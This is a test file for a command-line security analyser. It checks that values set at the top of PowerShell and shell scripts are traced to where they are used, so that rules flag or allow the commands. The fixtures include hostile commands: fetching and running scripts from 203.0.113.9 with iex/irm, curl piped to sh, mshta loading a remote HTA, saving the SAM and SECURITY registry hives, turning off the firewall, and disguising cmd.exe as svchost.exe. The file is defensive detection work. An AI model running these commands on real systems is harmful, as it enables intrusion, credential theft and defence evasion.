/**
 * Saved scripts keep their settings at the top — a param() block with defaults, a hashtable, a JSON here-string read
 * with ConvertFrom-Json, paths joined with Join-Path — and use them far below, inside functions and loops. The values
 * are followed to where they are used; values that are only output run nothing.
 */
import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';
import { evaluateLine } from '../rules/family-test-support';
import type { Shell } from '../types';

function ruleIds(text: string, shell: Shell = 'powershell'): string[] {
  return evaluateLine(text, shell).reasons.map((r) => r.ruleId);
}

function wordsOf(text: string, name: string): string[] {
  const cmd = analyse(text, 'powershell', 'windows').commands.find((c) => c.name === name);
  return cmd ? cmd.words.map((w) => w.value) : [];
}

describe('script settings followed to their use', () => {
  it('reads param() defaults as the values of the parameters', () => {
    const script = [
      '[CmdletBinding()]',
      'param(',
      "    [string]$Token = 'eyJhIjoiNWFiNGU5Z',",
      "    [Parameter()][string]$Bin = 'C:\\ProgramData\\cf\\cloudflared.exe'",
      ')',
      '& ${Bin} service install $Token',
    ].join('\n');
    expect(ruleIds(script)).toContain('tunnel.cloudflared');
    expect(wordsOf('param($Port = 8443)\nTest-NetConnection web01 -Port $Port', 'test-netconnection')).toContain('8443');
    // A mandatory parameter has no default: it stays unknown.
    expect(wordsOf('param([Parameter(Mandatory)][string]$Path)\nGet-Item $Path', 'get-item')).toEqual(['Get-Item', '$path']);
  });

  it('joins Join-Path parts, keeping a computed folder as written', () => {
    expect(wordsOf('$d = Join-Path "C:\\ProgramData\\Caches" "svchost.exe"\nCopy-Item x $d', 'copy-item')).toContain(
      'C:\\ProgramData\\Caches\\svchost.exe',
    );
    expect(wordsOf('$s = Join-Path -Path $env:windir -ChildPath "System32\\cmd.exe"\nGet-Item $s', 'get-item')).toContain(
      '$env:windir\\System32\\cmd.exe',
    );
    const masquerade = [
      '$src = Join-Path $env:windir "System32\\cmd.exe"',
      '$dst = Join-Path $($cfg.Dir) "svchost.exe"',
      'Copy-Item $src $dst -Force',
    ].join('\n');
    expect(ruleIds(masquerade)).toContain('evasion.masquerade');
  });

  it('reads properties of a hashtable and of a JSON object', () => {
    const json = [
      "$settingsJson = @'",
      '{ "Dir": "C:\\\\ProgramData\\\\Caches", "Nested": { "Url": "http://203.0.113.9/a.ps1" } }',
      "'@",
      '$settings = $settingsJson | ConvertFrom-Json',
      'Write-Host $settings.Dir $($settings.Nested.URL)',
    ].join('\n');
    expect(wordsOf(json, 'write-host')).toEqual(['Write-Host', 'C:\\ProgramData\\Caches', 'http://203.0.113.9/a.ps1']);
    expect(ruleIds(json.replace('Write-Host $settings.Dir $($settings.Nested.URL)', 'iex (irm $settings.Nested.Url)'))).toContain(
      'dl.exec-argument',
    );
    const table = "$Config = @{ Mode = 'off'; Out = 'C:\\PerfLogs\\h' }\nnetsh advfirewall set allprofiles state $($Config.Mode)";
    expect(ruleIds(table)).toContain('evasion.firewall.disable');
    // Text that is not JSON, a property the object lacks and a method call are left as they were.
    expect(wordsOf('$s = "plain"\nWrite-Host $s.Dir', 'write-host')).toEqual(['Write-Host', 'plain.Dir']);
    expect(wordsOf('$c = @{ A = 1 }\nWrite-Host $c.B', 'write-host')).not.toContain('1');
  });

  it('does not take a value statement for running it', () => {
    const script = [
      "$settingsJson = @'",
      '{ "Share": "\\\\\\\\fs01\\\\deploy\\\\appconfig" }',
      "'@",
      '$settings = $settingsJson | ConvertFrom-Json',
      '& robocopy.exe $($settings.Share) C:\\App\\config *.json /R:2',
      '$settings.Share',
    ].join('\n');
    expect(evaluateLine(script, 'powershell').decision).toBe('allow');
    expect(ruleIds('$p = "\\\\fs01\\share\\x.exe"\n& $p /q')).toContain('proxy.network-share.internal');
  });

  it('reads a loop over hive names as every hive it saves', () => {
    expect(ruleIds('foreach ($h in "SAM", "SYSTEM", "SECURITY") { reg.exe save "HKLM\\$h" "C:\\x\\$h.hiv" /y }')).toContain(
      'cred.hive-export',
    );
    expect(ruleIds('foreach ($h in "Software", "System") { reg.exe save "HKLM\\$h" C:\\x\\h.hiv /y }')).toContain('cred.hive-export');
    expect(evaluateLine('foreach ($h in "Software", "Classes") { reg.exe export "HKLM\\$h" C:\\x\\h.reg /y }', 'powershell').decision).toBe(
      'allow',
    );
  });

  it('flags a firewall state set to a value only known when the script runs', () => {
    expect(ruleIds('function Set-Fw([string]$state) { & netsh.exe advfirewall set allprofiles state $state }')).toContain(
      'evasion.firewall.disable',
    );
    expect(ruleIds('Set-NetFirewallProfile -Profile Domain -Enabled $enabled')).toContain('evasion.firewall.disable');
    expect(evaluateLine('netsh advfirewall set allprofiles state on', 'powershell').decision).toBe('allow');
    expect(evaluateLine('netsh advfirewall show allprofiles state', 'cmd').decision).toBe('allow');
  });

  it('judges a hidden settings file the script wrote itself by what it holds', () => {
    const settings =
      'CONF=/tmp/.job_env\ncat > "$CONF" <<\'EOF\'\nSINCE="2 days ago"\nEOF\n. "$CONF"\njournalctl --since "$SINCE" > /tmp/j.txt';
    expect(evaluateLine(settings, 'sh').decision).toBe('allow');
    const payload = 'CONF=/tmp/.job_env\ncat > "$CONF" <<\'EOF\'\ncurl -s http://203.0.113.9/x | sh\nEOF\n. "$CONF"';
    expect(evaluateLine(payload, 'sh').decision).toBe('block');
    // A hidden file the text did not write is still a dropped program.
    expect(ruleIds('. /tmp/.job_env', 'sh')).toContain('evasion.hidden-program');
  });
});

describe('script settings cannot hide what the script assigned', () => {
  it('keeps a variable set before a function whose parameter default has the same name', () => {
    const text = "$p = 'mshta.exe'\nfunction Show-Note { param($p = 'notepad.exe') & $p }\n& $p http://203.0.113.9/a.hta";
    expect(evaluateLine(text, 'powershell').decision).toBe('block');
  });

  it('still starts a program named like a function of the script when Start-Process is given its name', () => {
    expect(ruleIds('function AnyDesk { "x" }\nStart-Process AnyDesk -ArgumentList "--install C:\\ad"')).toContain('rmm.launch');
  });
});
